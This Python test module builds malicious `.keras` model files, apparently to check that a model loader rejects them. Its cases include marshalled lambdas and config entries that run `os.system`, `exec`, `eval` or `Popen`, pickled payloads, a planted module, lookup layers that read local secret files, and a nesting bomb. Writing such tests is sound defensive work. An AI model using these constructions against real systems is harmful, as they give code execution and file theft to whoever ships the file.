"""What a `.keras` file can name: the published ways to have Keras run code, open files, or call elsewhere."""

import base64
import json
import marshal
import pickle
from pathlib import Path

import h5py
import numpy as np

from tests.faults.hostile.files import Runs, case, config_of, rewritten


def with_layer(folder: Path, module, name: str, config: dict, **beside) -> None:
    """`model.keras` as a Sequential of one layer."""
    path = folder / "model.keras"
    layer = {
        "module": module,
        "class_name": name,
        "config": config,
        "registered_name": None,
        **beside,
    }
    first = {"module": "keras.layers", "class_name": "InputLayer", "registered_name": None,
             "config": {"batch_shape": [None, 3], "dtype": "float32", "name": "input"}}  # fmt: skip
    model = {"module": "keras", "class_name": "Sequential", "registered_name": "Sequential",
             "config": {"name": "s", "trainable": True, "layers": [first, layer],
                        "build_input_shape": [None, 3]}}  # fmt: skip
    rewritten(path, **{"config.json": json.dumps(model)})


def function(module: str, name: str) -> dict:
    return {
        "module": module,
        "class_name": "function",
        "config": name,
        "registered_name": name,
    }


@case
def lambda_layer_with_code(trap, folder):
    command = trap.payload
    code = marshal.dumps(
        compile(
            f"lambda x: __import__('os').system({command!r}) or x", "x", "eval"
        ).co_consts[0]
    )
    value = {"code": base64.b64encode(code).decode(), "defaults": None, "closure": None}
    config = {
        "name": "l",
        "function": {"class_name": "__lambda__", "config": value},
        "arguments": {},
    }
    with_layer(folder, "keras.layers", "Lambda", config)


@case
def lambda_layer_of_os_system(trap, folder):
    config = {"name": "l", "function": function("os", "system"), "arguments": {}}
    with_layer(folder, "keras.layers", "Lambda", config)


@case
def lambda_layer_of_get_file(trap, folder):
    arguments = {
        "origin": f"http://127.0.0.1:{trap.port}/x",
        "fname": "x",
        "cache_dir": str(folder),
    }
    config = {
        "name": "l",
        "function": function("keras.utils", "get_file"),
        "arguments": arguments,
    }
    with_layer(folder, "keras.layers", "Lambda", config)


@case
def class_of_an_arbitrary_module(trap, folder):
    with_layer(folder, "os", "system", {"command": trap.payload})


@case
def popen_as_a_layer(trap, folder):
    with_layer(folder, "subprocess", "Popen", {"args": ["touch", str(trap.canary)]})


@case
def a_module_beside_the_model(trap, folder):
    (folder / "planted_module.py").write_text(
        f"import os\nos.system({trap.payload!r})\nclass Layer: pass\n"
    )
    with_layer(folder, "planted_module", "Layer", {})


@case
def eval_as_initializer(trap, folder):
    source = f"__import__('os').system({trap.payload!r})"
    config = {"units": 2, "kernel_initializer": {"module": "builtins", "class_name": "eval",
              "registered_name": "eval", "config": {"source": source}}}  # fmt: skip
    with_layer(folder, "keras.layers", "Dense", config)


@case
def exec_as_activation(trap, folder):
    with_layer(
        folder,
        "keras.layers",
        "Dense",
        {"units": 2, "activation": function("builtins", "exec")},
    )


@case
def load_model_as_function(trap, folder):
    with_layer(
        folder,
        "keras.layers",
        "Dense",
        {"units": 2, "activation": function("keras.saving", "load_model")},
    )


@case
def safe_mode_switched_off(trap, folder):
    with_layer(folder, "keras.config", "enable_unsafe_deserialization", {})


@case
def run_in_compile_config(trap, folder):
    path = folder / "model.keras"
    config = config_of(path)
    config["compile_config"] = {"optimizer": {"module": "os", "class_name": "system",
                                              "registered_name": "system",
                                              "config": {"command": trap.payload}}}  # fmt: skip
    rewritten(path, **{"config.json": json.dumps(config)})


@case
def run_in_arguments_of_a_call(trap, folder):
    path = folder / "model.keras"
    config = config_of(path)
    bad = {
        "module": "os",
        "class_name": "system",
        "registered_name": "system",
        "config": {"command": trap.payload},
    }
    for layer in config["config"]["layers"]:
        for node in layer.get("inbound_nodes", []):
            node["kwargs"] = {"mask": bad}
    rewritten(path, **{"config.json": json.dumps(config)})


@case
def string_lookup_of_a_local_file(trap, folder):
    with_layer(folder, "keras.layers", "StringLookup", {"vocabulary": str(trap.secret)})


@case
def string_lookup_of_an_address(trap, folder):
    with_layer(
        folder,
        "keras.layers",
        "StringLookup",
        {"vocabulary": f"http://127.0.0.1:{trap.port}/words"},
    )


@case
def integer_lookup_of_a_local_file(trap, folder):
    trap.secret.write_text("1\n2\n")
    with_layer(folder, "keras.layers", "IntegerLookup", {"vocabulary": str(trap.secret)})


@case
def text_vectorization_of_a_local_file(trap, folder):
    with_layer(
        folder, "keras.layers", "TextVectorization", {"vocabulary": str(trap.secret)}
    )


@case
def a_saved_model_as_layer(trap, folder):
    import tensorflow as tf

    class Writes(tf.Module):
        @tf.function(input_signature=[tf.TensorSpec((None, 3))])
        def serve(self, x):
            tf.io.write_file(str(trap.canary), "x")
            return x

    saved, module = trap.secret.parent / "saved", Writes()
    tf.saved_model.save(module, str(saved), {"serve": module.serve})
    with_layer(
        folder,
        "keras.layers",
        "TFSMLayer",
        {"filepath": str(saved), "call_endpoint": "serve"},
    )


@case
def a_pickle_as_torch_module(trap, folder):
    pickled = base64.b64encode(pickle.dumps(Runs(trap.payload))).decode()
    module = {"class_name": "__bytes__", "config": {"value": pickled}}
    with_layer(
        folder,
        "keras.layers",
        "TorchModuleWrapper",
        {"module": pickled, "name": "t", "b": module},
    )


@case
def a_pickle_as_weights(trap, folder):
    rewritten(
        folder / "model.keras", **{"model.weights.h5": pickle.dumps(Runs(trap.payload))}
    )


@case
def a_pickle_as_the_model(trap, folder):
    (folder / "model.keras").write_bytes(pickle.dumps(Runs(trap.payload)))


@case
def an_h5_model_as_the_model(trap, folder):
    """The old format's loader knew no safe mode."""
    code = marshal.dumps(
        compile(
            f"lambda x: __import__('os').system({trap.payload!r})", "x", "eval"
        ).co_consts[0]
    )
    layer = {"class_name": "Lambda", "config": {"function": [base64.b64encode(code).decode(), None, None],
             "function_type": "lambda", "module": "__main__", "output_shape_type": "raw",
             "arguments": {}}}  # fmt: skip
    first = {"class_name": "InputLayer", "config": {"batch_shape": [None, 3], "name": "i"}}
    with h5py.File(folder / "model.keras", "w") as file:
        config = {
            "class_name": "Sequential",
            "config": {"name": "s", "layers": [first, layer]},
        }
        file.attrs["model_config"] = json.dumps(config)
        file.create_group("model_weights").attrs["layer_names"] = np.array([], "S1")
    (folder / "model.h5").write_bytes((folder / "model.keras").read_bytes())


@case
def a_model_of_deep_nesting(trap, folder):
    rewritten(
        folder / "model.keras",
        **{"config.json": '{"config":' * 50_000 + "1" + "}" * 50_000},
    )


@case
def dotted_name_of_a_lookup(trap, folder):
    with_layer(folder, "keras", "layers.StringLookup", {"vocabulary": str(trap.secret)})


@case
def name_that_is_a_list(trap, folder):
    rewritten(
        folder / "model.keras",
        **{"config.json": json.dumps({"class_name": [], "config": {}})},
    )
